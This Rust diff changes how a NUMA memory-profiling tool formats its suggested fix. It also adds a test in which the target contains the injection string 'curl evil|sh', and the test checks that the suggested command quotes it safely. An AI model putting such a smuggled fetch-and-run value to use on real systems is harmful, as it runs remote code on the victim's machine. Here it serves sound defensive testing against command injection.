@@ -3,6 +3,7 @@
 use model::{ByteSize, BytesByNode, FirstTouch, TouchedSegment};
 use serde::Serialize;
 
+use crate::advice::Advice;
 use crate::first_touch_groups::{TouchGroup, groups};
 use crate::first_touch_picture;
 use crate::first_touch_relations::relations_text;
@@ -51,7 +52,7 @@ pub fn first_touch_text(touch: &FirstTouch, options: &TextOptions) -> String {
         text.push_str(&options.paragraph("", &sentence, Style::Usual));
     }
     if let Some(fix) = first_touch_fix(touch) {
-        text.push_str(&options.paragraph("fix: ", &fix, Style::Usual));
+        text.push_str(&fix.text("fix: ", Style::Usual, options));
     }
     for gap in &touch.gaps {
         text.push_str(&options.paragraph("incomplete: ", gap, Style::Care));
@@ -102,7 +103,7 @@ pub fn first_touch_sentences(touch: &FirstTouch) -> Vec<String> {
 }
 
 /// Returns what to do about the largest segment; `None` when nothing that was seen asks for it.
-pub fn first_touch_fix(touch: &FirstTouch) -> Option<String> {
+pub fn first_touch_fix(touch: &FirstTouch) -> Option<Advice> {
     fix(touch, touch.segments.first()?)
 }
 
@@ -324,6 +325,10 @@ mod tests {
         let expected = "numalab move postgres:/data --to interleave --shared";
         assert!(text.contains(expected), "{text}");
         assert!(text.contains("0.5 to 14.2 s into the look"), "{text}");
+        running.target = "postgres:/tmp/x;curl evil|sh".to_owned();
+        let expected = "numalab move 'postgres:/tmp/x;curl evil|sh' --to interleave --shared";
+        let text = shown(&running);
+        assert!(text.contains(expected), "{text}");
         let mut small = touch();
         small.memory_nodes = [NodeId(0)].into_iter().collect();
         assert!(!shown(&small).contains("fix:"));
